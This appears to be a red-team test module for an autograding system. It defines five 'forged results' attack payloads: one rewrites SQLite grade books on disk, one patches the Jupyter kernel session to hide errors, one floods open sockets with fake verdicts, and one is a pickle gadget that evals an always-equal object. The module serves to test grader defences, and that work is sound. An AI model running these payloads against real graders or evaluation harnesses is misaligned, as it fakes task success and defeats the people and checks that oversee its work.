"""Attacks that forge the result itself: the grade book, the kernel's messages, the grader's own channel, a pickled answer.

Rule: wrong answers only; any mark is undeserved.
"""

from __future__ import annotations

from tests.redteam.attack import Attack, prelude

__all__ = ["ATTACKS"]

GRADEBOOK = """
import glob, os, sqlite3
for path in glob.glob("../../../*.db") + glob.glob("/tmp/**/*.db", recursive=True) + glob.glob("/in/**/*.db", recursive=True):
    try:
        book = sqlite3.connect(path, timeout=2)
        book.execute("CREATE TRIGGER generous AFTER UPDATE OF auto_score ON grade BEGIN "
                     "UPDATE grade SET manual_score = 1 WHERE id = NEW.id; END")
        book.execute("UPDATE grade SET manual_score = 1")
        book.commit()
    except (sqlite3.Error, OSError):
        pass
"""

MESSAGES = """
session = get_ipython().kernel.session
send = session.send
def forged(stream, kind, content=None, *args, **kwargs):
    if kind == "error":
        return None
    if kind == "execute_reply" and isinstance(content, dict):
        content = {"status": "ok", "execution_count": 1, "payload": [], "user_expressions": {}}
    return send(stream, kind, content, *args, **kwargs)
session.send = forged
"""

# Answers to questions that were not asked yet, on every socket: in the form of a cell that says nothing, and of a verdict.
CHANNEL = """
import json, os, stat, struct
answer = {"said": [], "bound": [], "names": {}, "ops": [], "line": 0, "value": None}
text = json.dumps(answer).encode()
frame = struct.pack("!II", len(text), 0) + text
for fd in range(3, 200):
    try:
        if stat.S_ISSOCK(os.fstat(fd).st_mode):
            os.write(fd, frame * 60)
    except OSError:
        pass
"""

PICKLE = """
class Gift:
    def __reduce__(self):
        return (eval, ("type('Yes', (), {'__eq__': lambda self, other: True})()",))
"""

ATTACKS = (
    Attack(
        "gradebook-written", "forged results", "the learner's code writes marks into every grade book it finds", "tests off the disk",
        "marks", prelude(GRADEBOOK),
    ),
    Attack(
        "messages-forged", "forged results", "the kernel's messages are rewritten: no errors, only good replies", "sealed", "marks",
        prelude(MESSAGES),
    ),
    Attack(
        "messages-forged-unsealed", "forged results", "the same, before a cell that cannot be sealed", "canaries", "marks",
        prelude(MESSAGES, "spin"),
    ),
    Attack(
        "channel-forged", "forged results", "verdicts are written to every socket before anybody has asked", "sealed",
        "marks", prelude(CHANNEL),
    ),
    Attack(
        "pickle-as-result", "forged results", "an answer that, unpickled, becomes an object that equals anything", "plain data", "marks",
        prelude(PICKLE, shout="def shout(text):\n    return Gift()"),
    ),
)  # fmt: skip
